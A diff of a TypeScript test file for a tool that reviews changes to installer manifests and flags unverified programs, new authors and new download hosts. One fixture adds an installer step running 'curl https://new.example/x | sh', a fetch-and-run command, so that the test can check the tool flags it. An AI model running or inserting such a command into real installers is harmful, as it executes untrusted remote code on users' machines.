@@ -62,7 +62,7 @@ test('harmless changes alone leave nothing to check', () => {
   expect(textReview(review, PLAIN)).toContain('\nNothing to check, no breaking change, 12 records changed\n');
 });
 
-test('a new version of a program that nobody verifies is not said to leave nothing to check', () => {
+test('another file in the place of an unverified program is to check', () => {
   const base = textsIn('base');
   const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
   const version = (number: string) =>
@@ -70,12 +70,11 @@ test('a new version of a program that nobody verifies is not said to leave nothi
     '    - execute:\n        file: maps\n';
   const review = reviewTexts({ ...base, [path]: version('1') }, { ...base, [path]: version('2') });
   const report = textReview(review, { ...PLAIN, width: 200 });
-  expect(report).toContain('\nNothing unusual but unverified programs that are run, no breaking change, 1 record');
-  expect(report).toContain('`maps` is not verified.');
-  expect(report).not.toContain('Nothing unusual among');
+  expect(report).toContain('\n1 record to check, no breaking change\n');
+  expect(report).toContain('Unverified program replaced: `maps` is run, and is another file now.');
 });
 
-test('a note stands once for all records that share it, with their names', () => {
+test('a point stands once for all records that share it, and a stranger with a command is one point', () => {
   const base = textsIn('base');
   const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
   const names = ['a', 'b', 'c', 'd', 'e'].map((letter) => `red-eclipse-${letter}`);
@@ -87,12 +86,20 @@ test('a note stands once for all records that share it, with their names', () =>
   const worse = `${added[0]?.[1]?.trimEnd() ?? ''}\n    - execute:\n        command: curl https://new.example/x | sh\n`;
   const review = reviewTexts(base, { ...base, ...(Object.fromEntries(added) as Texts), [first]: worse });
   const report = textReview(review, { ...PLAIN, details: false, width: 300 });
-  for (const words of ['First installer by `newcomer`.', 'New download host: `new.example`.'])
-    expect([report, markdownReview(review)].map((page) => page.split(words).length - 1)).toEqual([1, 1]);
-  expect(report).toContain(`  ○ ${names.join(', ')} (installers added)\n`);
-  expect(report).toContain(`  ▲ ${names[0] ?? ''} (installer added)\n`);
-  expect(markdownReview(review)).toContain(
-    `- ${names.map((name) => `**\`${name}\`**`).join(', ')} (installers added)\n`,
+  const page = markdownReview(review);
+  for (const words of ['New author: First installer by `newcomer`.', 'New download host: `new.example`.'])
+    expect([report, page].map((one) => one.split(words).length - 1)).toEqual([1, 1]);
+  expect(report).toContain(`  ▲ ${names.slice(1).join(', ')} (installers added)\n`);
+  const stranger =
+    'First installer by `newcomer`. It fetches from `new.example` and runs `curl https://new.example/x | sh`.';
+  expect(report).toContain(
+    `  ▲ ${names[0] ?? ''} (installer added)\n       New author, new host and new command: ${stranger}`,
+  );
+  expect(page).toContain(
+    `- ${names
+      .slice(1)
+      .map((name) => `**\`${name}\`**`)
+      .join(', ')} (installers added)\n`,
   );
   expect(others).toHaveLength(4);
 });
